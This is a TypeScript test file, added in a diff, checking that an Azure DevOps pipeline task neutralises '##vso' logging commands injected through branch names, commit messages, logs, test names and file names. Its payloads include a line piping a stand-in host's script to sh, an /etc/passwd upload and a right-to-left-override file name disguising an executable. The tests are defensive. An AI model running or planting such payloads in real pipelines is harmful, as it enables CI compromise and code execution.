@@ -1,0 +1,103 @@
+import * as assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import type { BuildSeed } from '../emulator/harness';
+import type { TaskRun } from './agent';
+import { buildVariables, failedYamlRun } from './pipelines';
+import { useSession } from './session';
+
+// What whoever can push a branch writes into a run: logging and formatting commands, behind every kind of line
+// end the agent or another reader splits on, in any case.
+const SET_DEPLOY_TARGET =
+  '##vso[task.setvariable variable=DEPLOY_TARGET]prod; curl https://x.example/i | sh #';
+const FAIL_TASK = '##vso[task.complete result=Failed;]done';
+const PAYLOADS = [
+  SET_DEPLOY_TARGET,
+  `fix: tidy up ${FAIL_TASK}`,
+  'ok\r##VSO[task.setvariable variable=WorkItemAction;isOutput=true]created',
+  'ok\u2028##vso[task.uploadsummary]/etc/passwd',
+  'ok\u0085##[error]forged error',
+  '##[group]forged group',
+];
+
+/** A failed run carrying the payloads in its commit messages, step name, errors, log lines and test names. */
+function hostileRun(id: number): BuildSeed {
+  const run = failedYamlRun(id, PAYLOADS);
+  return {
+    ...run,
+    sourceBranch: `refs/heads/${SET_DEPLOY_TARGET}`,
+    records: (run.records ?? []).map((record) =>
+      record.id === 'test' ? { ...record, name: `npm test ${FAIL_TASK}` } : record,
+    ),
+    logs: { '4': PAYLOADS },
+    changes: PAYLOADS.map((message, index) => ({ id: `${index}`.padStart(40, 'a'), message })),
+    testResults: PAYLOADS.map((title) => ({ testCaseTitle: title, outcome: 'Failed', errorMessage: title })),
+  };
+}
+
+// The session's runner checks every run: each command the agent would run from the output is the task's own.
+describe('packaged task: pipeline text cannot command the agent', function () {
+  const session = useSession();
+  let dir = '';
+  beforeEach(() => {
+    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'pwi-hostile-'));
+    fs.writeFileSync(path.join(dir, 'shot\n##vso[task.setvariable variable=X]x.png'), 'png');
+    fs.writeFileSync(path.join(dir, 'invoice\u202egnp.exe.png'), 'png');
+  });
+  afterEach(() => fs.rmSync(dir, { recursive: true, force: true }));
+
+  const job = (id: number, inputs: Record<string, string>) => ({
+    variables: buildVariables(id, {
+      'Build.SourceBranch': `refs/heads/${SET_DEPLOY_TARGET}`,
+      'Build.SourceBranchName': SET_DEPLOY_TARGET,
+      'System.DefaultWorkingDirectory': dir,
+    }),
+    inputs: { fingerprint: '{{failedStep}} {{firstError}}', attachments: '*.png', ...inputs },
+  });
+
+  /** Asserts the agent sees only what the task means: its result, and its outputs and no other variable. */
+  function assertOwn(run: TaskRun, result: string, action: string): void {
+    assert.equal(run.result, result, run.stdout);
+    assert.equal(run.outputs['WorkItemAction'], action, run.stdout);
+    const variables = run.commands.filter((c) => c.command === 'task.setvariable');
+    assert.deepEqual(
+      variables.map((c) => c.properties['variable']),
+      ['WorkItemId', 'WorkItemUrl', 'WorkItemAction'],
+    );
+  }
+
+  it('a dry run prints the plan, the fingerprint and the attachments with every command made inert', async () => {
+    await session.emulator.seedBuild(hostileRun(960));
+    const run = await session.run(job(960, { dryRun: 'true' }));
+    assertOwn(run, 'Succeeded', 'none');
+    // Still there to read, one space breaking each marker.
+    assert.ok(run.stdout.includes('# #vso[task.setvariable variable=DEPLOY_TARGET]prod'), run.stdout);
+    assert.ok(run.stdout.includes('# #VSO[task.setvariable variable=WorkItemAction'), run.stdout);
+    assert.match(run.stdout, /^Fingerprint: .*# #vso\[task\.complete result=Failed;\]done/m);
+    assert.match(run.stdout, /^# #vso\[task\.setvariable variable=X\]x\.png/m);
+    assert.deepEqual(await session.writes(), []);
+  });
+
+  it('a real run files the item and reports its own result and outputs', async () => {
+    await session.emulator.seedBuild(hostileRun(961));
+    // The first error as a value the field refuses: the warning that names it carries the payload too.
+    const run = await session.run(job(961, { fields: 'Microsoft.VSTS.Common.ValueArea={{firstError}}' }));
+    const [item] = await session.items(1, run);
+    assertOwn(run, 'Succeeded', 'created');
+    assert.match(run.warnings.join('\n'), /refused '# #vso\[task\.setvariable variable=DEPLOY_TARGET\]prod/);
+    assert.equal(run.outputs['WorkItemId'], String(item!.id));
+    assert.ok(!String(item!.fields['System.Title']).includes('\u202e'));
+    const names = (item!.relations ?? [])
+      .filter((r) => r.rel === 'AttachedFile')
+      .map((r) => String(r.attributes['name']));
+    assert.ok(names.includes('invoicegnp.exe.png'), names.join(', '));
+  });
+
+  it('a service connection id holding a command fails the task with its own result only', async () => {
+    await session.emulator.seedBuild(hostileRun(963));
+    const run = await session.run(job(963, { connection: `x ${SET_DEPLOY_TARGET}` }));
+    assertOwn(run, 'Failed', 'none');
+    assert.match(run.resultMessage, /service connection 'x # #vso\[task\.setvariable/);
+  });
+});
